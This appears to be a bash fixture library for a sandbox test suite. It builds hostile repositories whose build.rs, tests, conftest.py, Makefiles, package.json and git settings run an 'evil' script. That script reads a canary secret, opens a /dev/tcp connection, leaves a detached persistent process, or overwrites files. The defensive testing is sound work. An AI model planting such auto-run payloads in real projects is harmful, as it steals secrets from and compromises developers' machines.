# Words that the tables make hostile repositories with. Runs in an empty folder `repo` of a workspace.
#   AT       the folder as the program sees it        OUT     a folder outside, which must not change
#   MARKER   a file there that is not there           CANARY  a file there with a secret
#   PORT     of 127.0.0.1, where somebody listens     USERS   a home folder with a secret in it
#   BROKER   the server's process                     MARK    words by which a process is found
set -eu
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1

# What is made here must not fire yet.
git() {
    /usr/bin/git -c user.name=t -c user.email=t@t -c init.defaultBranch=main \
        -c core.fsmonitor=false -c core.hooksPath=/dev/null "$@"
}

# A program that does all at once: writes, reads and calls outside, and says that it ran.
evil() {
    mkdir -p "$(dirname "$1")"
    cat > "$1" << END
#!/bin/sh
echo fired > $MARKER
cat $CANARY
bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'
printf 'payload-%s\n' ran
END
    chmod 755 "$1"
}

# Programs that do one thing each.
does() {
    {
        echo '#!/bin/sh'
        echo "printf 'payload-%s\\n' ran"
        cat
    } > evil
    chmod 755 evil
}
writes() { does <<< "mkdir -p $OUT; echo fired > $MARKER"; }
reads() { does <<< "cat $1"; }
calls() { does <<< "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'"; }
stays() { does <<< "(setsid nohup sleep $MARK > /dev/null 2>&1 &); sleep 0.2"; }
spoils() { does <<< "echo spoiled > $AT/precious"; }

conf() { git config -f .git/config "$@"; }
attributes() {
    mkdir -p .git/info
    echo "$1" > .git/info/attributes
}

repo() {
    git init -q
    echo one > file.txt
    git add .
    git commit -qm one
}

# A repository outside whose history and file say the secret.
outside() {
    mkdir -p "$OUT/outside"
    (
        cd "$OUT/outside"
        git init -q
        cp "$CANARY" file.txt
        git add .
        git commit -qm "$(cat "$CANARY")"
        git config uploadpack.allowAnySHA1InWant true
        git config uploadpack.allowFilter true
    )
}

# A commit that says it is signed.
signed() {
    local commit
    commit=$(printf 'tree %s\nparent %s\nauthor t <t@t> 1 +0000\ncommitter t <t@t> 1 +0000\ngpgsig -----BEGIN %s-----\n \n eA==\n -----END %s-----\n\nsigned\n' \
        "$(git write-tree)" "$(git rev-parse HEAD)" "$1" "$1" | git hash-object -t commit -w --stdin)
    git update-ref HEAD "$commit"
}

# What the index says of file.txt has to be fetched from a remote at this URL.
missing() {
    conf core.repositoryformatversion 1
    conf extensions.partialClone origin
    conf remote.origin.promisor true
    conf remote.origin.url "$1"
    local blob
    blob=$(git rev-parse HEAD:file.txt)
    rm -f ".git/objects/${blob:0:2}/${blob:2}"
    echo two > file.txt
}

# A submodule with a repository of its own in its folder.
sub() {
    mkdir sub
    (cd sub && repo)
    git add sub 2> /dev/null
    git commit -qm sub
}

# A crate, with a build script if one comes in.
crate() {
    mkdir -p src
    printf '[package]\nname = "hostile"\nversion = "0.1.0"\nedition = "2021"\n%s\n' "${1:-}" > Cargo.toml
    echo 'pub fn one() -> i32 { 1 }
#[test] fn one_is_one() { assert_eq!(one(), 1); }' > src/lib.rs
}
build_script() {
    cat > build.rs << END
fn main() {
    let said = std::process::Command::new("./evil").output().unwrap();
    for line in String::from_utf8_lossy(&said.stdout).lines() {
        println!("cargo:warning={line}");
    }
}
END
}
# A test that runs the program and fails, so that what it said is shown.
test_runs_it() {
    cat > src/lib.rs << END
#[test] fn hostile() {
    let said = std::process::Command::new("./evil").output().unwrap();
    panic!("{}", String::from_utf8_lossy(&said.stdout));
}
END
}
cargo_conf() {
    mkdir -p .cargo
    cat > .cargo/config.toml
}
makefile() { printf "$1" > Makefile; }
package() { printf '{"name": "hostile", "version": "1.0.0", %s}\n' "$1" > package.json; }
python_test() {
    cat > test_one.py << END
import subprocess, unittest
class One(unittest.TestCase):
    def test_one(self):
        print(subprocess.run(["./evil"], capture_output=True, text=True).stdout)
        self.assertEqual(1, 1)
END
}
python_runs_it() { echo 'import subprocess, os; os.write(2, subprocess.run(["./evil"], capture_output=True).stdout)'; }
# pytest keeps what is said while it looks for tests.
conftest_runs_it() {
    cat > conftest.py << END
import subprocess
SAID = subprocess.run(["./evil"], capture_output=True, text=True).stdout
def pytest_terminal_summary(terminalreporter):
    terminalreporter.write(SAID)
END
}
